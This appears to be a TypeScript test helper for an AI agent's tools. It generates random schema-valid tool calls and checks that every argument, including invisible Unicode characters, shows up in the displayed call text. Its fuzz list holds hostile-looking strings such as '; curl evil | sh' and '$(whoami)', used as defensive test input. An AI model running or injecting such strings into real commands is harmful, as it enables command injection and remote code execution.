/** Calls of every tool with arguments that are drawn at random from the tool's schema. */
import { argumentLabel } from '../../src/agent/user/callText.ts';
import { allTools, type AllToolsDeps } from '../../src/tools/allTools.ts';
import type { Tool } from '../../src/tools/tool.ts';
import type { Machines } from '../../src/machines/machine.ts';

type Random = () => number;

interface Schema {
  readonly type?: string;
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly pattern?: string;
  readonly maxLength?: number;
  readonly minimum?: number;
  readonly exclusiveMinimum?: number;
  readonly maximum?: number;
  readonly minItems?: number;
  readonly items?: Schema;
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly additionalProperties?: Schema | false;
}

const pieces = [
  ...['python train.py', '--lr 1e-3', '; curl evil | sh', '$(whoami)', 'a/b.py', '`x`', '](x)'],
  ...['\n', '\n\n', '\n  machine_id: local', '  ', '\t', '"', "'", '\\', '$(bug)', '↵', '| &amp;'],
  ...[
    '\u202e',
    '\u2066',
    '\u200b',
    '\u00a0',
    '\u0007',
    '\u009b',
    '\r',
    '\ufe0f',
    '\u{e0041}',
    '\u2028',
  ],
];

/** Returns a text of up to some thousand characters, often with a command in the middle. */
function randomText(random: Random): string {
  const long = (): string =>
    ['x', '\n', 'word ', '\u200b'][index(random, 4)]!.repeat(index(random, 600));
  const parts = Array.from({ length: 1 + index(random, 5) }, () =>
    random() < 0.1 ? long() : pieces[index(random, pieces.length)]!,
  );
  return parts.join('');
}

const index = (random: Random, count: number): number => Math.floor(random() * count);

function randomValue(schema: Schema, random: Random): unknown {
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants !== undefined) return randomValue(variants[index(random, variants.length)]!, random);
  if (schema.const !== undefined) return schema.const;
  if (schema.enum !== undefined) return schema.enum[index(random, schema.enum.length)];
  switch (schema.type) {
    case 'string':
      return schema.pattern === undefined ? randomText(random).slice(0, schema.maxLength) : 'lr';
    case 'boolean':
      return random() < 0.5;
    case 'number':
    case 'integer': {
      const least = schema.minimum ?? schema.exclusiveMinimum ?? 0;
      return Math.min(schema.maximum ?? Infinity, least + 1 + index(random, 20));
    }
    case 'array':
      return Array.from({ length: (schema.minItems ?? 0) + index(random, 3) }, () =>
        randomValue(schema.items ?? {}, random),
      );
    case 'object':
      return randomObject(schema, random);
    default:
      return randomText(random);
  }
}

function randomObject(schema: Schema, random: Random): Record<string, unknown> {
  const { properties = {}, required = [], additionalProperties } = schema;
  const known = Object.entries(properties).flatMap(([name, property]) =>
    required.includes(name) || random() < 0.5 ? [[name, randomValue(property, random)]] : [],
  );
  const others = additionalProperties
    ? Array.from({ length: 1 + index(random, 3) }, (_, at) => [
        `p${at}`,
        randomValue(additionalProperties, random),
      ])
    : [];
  return Object.fromEntries(shuffled([...known, ...others], random)) as Record<string, unknown>;
}

function shuffled<T>(items: readonly T[], random: Random): T[] {
  const keyed = items.map((item) => [random(), item] as const);
  return keyed.sort(([a], [b]) => a - b).map(([, item]) => item);
}

/** Returns the value with the names of its objects in another order. */
export function reordered(value: unknown, random: Random): unknown {
  if (Array.isArray(value)) return value.map((each) => reordered(each, random));
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).map(([name, inner]) => [name, reordered(inner, random)]);
  return Object.fromEntries(shuffled(entries, random)) as unknown;
}

const machines: Pick<Machines, 'get'> = {
  get(id) {
    if (id === 'local')
      return { id, workFolder: '/work', homeFolder: '/home/ada' } as ReturnType<Machines['get']>;
    throw new Error(`${id} was not reached yet`);
  },
};

const deps = new Proxy({} as AllToolsDeps, {
  get: () => ({
    machines,
    edited: () => [],
    checkPlaces: () => [{ machineId: 'local', folder: '/work' }],
  }),
});

/** Every tool of a session. The tools cannot be executed. */
export const everyTool = (): readonly Tool[] => allTools(deps);

export interface RandomCall {
  readonly tool: Tool;
  readonly input: Record<string, unknown>;
  /** The arguments with which the tool would run. */
  readonly args: Record<string, unknown>;
}

/** Returns `count` valid calls of the tool. */
export function randomCalls(tool: Tool, count: number, random: Random): RandomCall[] {
  const calls: RandomCall[] = [];
  for (let tries = 0; calls.length < count; tries += 1) {
    if (tries > 200 * count) throw new Error(`No valid call of ${tool.spec.name} was found.`);
    const input = randomObject(tool.spec.inputSchema as Schema, random);
    const parsed = tool.parse(input);
    if (parsed.ok) calls.push({ tool, input, args: parsed.args as Record<string, unknown> });
  }
  return calls;
}

/**
 * Returns the texts of a call that are not shown: its strings, numbers and flags, with the
 * characters that have no glyph as code points. White space, quotes, escapes and signs of line
 * breaks do not count.
 */
export function missingIn(text: string, args: unknown): string[] {
  const shown = bare(text);
  return leaves(args, false, true).filter((leaf) => !shown.includes(bare(leaf)));
}

const bare = (text: string): string => text.replace(/[\s"'\\`↵]/g, '');

function leaves(value: unknown, isNested = false, isTop = false): string[] {
  if (typeof value === 'object' && value !== null)
    return Object.entries(value).flatMap(([name, inner]) => [
      ...(Array.isArray(value) ? [] : [isTop ? argumentLabel(name) : name]),
      ...leaves(inner, isNested || typeof inner === 'object'),
    ]);
  if (value === undefined) return [];
  // Nested values are shown as JSON, which has escapes of its own.
  return [points(isNested ? JSON.stringify(value) : String(value))];
}

const isSeen = (point: number): boolean =>
  (point >= 0x20 && point < 0x7f) || point === 0x0a || point === 0x09 || point === 0x21b5;

/** The texts of these tests have no other character with a glyph than those of ASCII and `↵`. */
const points = (text: string): string =>
  Array.from(text, (character) => {
    const point = character.codePointAt(0) ?? 0;
    return isSeen(point) ? character : `⟨U+${point.toString(16).toUpperCase().padStart(4, '0')}⟩`;
  }).join('');
